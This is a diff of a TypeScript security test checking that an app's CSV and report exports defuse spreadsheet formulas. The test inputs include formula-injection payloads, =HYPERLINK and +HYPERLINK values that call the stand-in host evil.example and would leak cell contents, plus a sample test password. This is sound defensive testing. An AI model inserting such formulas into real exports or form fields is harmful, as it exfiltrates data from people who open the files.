@@ -18,11 +18,16 @@ describe('Hardening (finding 4): no export carries a live formula', () => {
 
   afterAll(() => ctx.close());
 
-  const formulaCells = (csv: string) => (parse(csv, { relax_column_count: true }) as string[][]).flat().filter((cell) => FORMULA.test(cell));
+  const formulaCells = (csv: string) =>
+    (parse(csv, { relax_column_count: true }) as string[][]).flat().filter((cell) => FORMULA.test(cell));
 
   it('defuses agencies, cooperative and product names in the reports and the purchase-order CSV', async () => {
     const auth = bearer(ref.adminToken);
-    const coop = await ctx.http.post('/cooperatives').set(auth).send({ name: '=HYPERLINK("http://evil.example/?"&A1,"Koperasi")', region: 'Kabupaten Indramayu' }).expect(201);
+    const coop = await ctx.http
+      .post('/cooperatives')
+      .set(auth)
+      .send({ name: '=HYPERLINK("http://evil.example/?"&A1,"Koperasi")', region: 'Kabupaten Indramayu' })
+      .expect(201);
     const product = await ctx.http
       .post(`/cooperatives/${coop.body.id}/products`)
       .set(auth)
@@ -30,7 +35,10 @@ describe('Hardening (finding 4): no export carries a live formula', () => {
       .expect(201);
     const agency = '+HYPERLINK("http://evil.example","Kementerian")';
     const nip = '198503122010011001';
-    await ctx.http.post('/buyers').send({ nip, name: '-Siti Rahmawati', agency, phone: '081234567890', password: 'rahasia-siti-2026' }).expect(201);
+    await ctx.http
+      .post('/buyers')
+      .send({ nip, name: '-Siti Rahmawati', agency, phone: '081234567890', password: 'rahasia-siti-2026' })
+      .expect(201);
     const buyer = { id: '', nip, token: await login(ctx, nip, 'rahasia-siti-2026') };
     const wave = await createWave(ctx, { ...ref, productId: product.body.id }, { capacityKg: 100, closesInMs: 3_000 });
     await placeOrder(ctx, wave, buyer, ref.points[0].id, { 5: 2 });
